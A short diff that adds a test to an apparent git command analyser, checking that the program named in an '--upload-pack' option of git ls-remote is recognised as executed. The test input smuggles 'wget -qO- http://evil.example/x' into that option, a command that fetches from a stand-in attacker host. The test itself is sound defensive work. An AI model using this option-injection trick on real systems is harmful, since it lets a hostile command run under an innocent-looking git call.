@@ -46,3 +46,7 @@ test('a subcommand that is none of Git and no alias is a program', () => {
   expect(analyseIn('git foo-bar x', none).unknowns).toEqual([])
   expect(execs('git foo x', none)).toEqual(['git foo x', 'git-foo x'])
 })
+
+test('the program at the other end of a transport gets the path of the repository', () => {
+  expect(execs("git ls-remote '--upload-pack=wget -qO- http://evil.example/x' /tmp")).toContain('wget -qO- http://evil.example/x ⟨any⟩')
+})
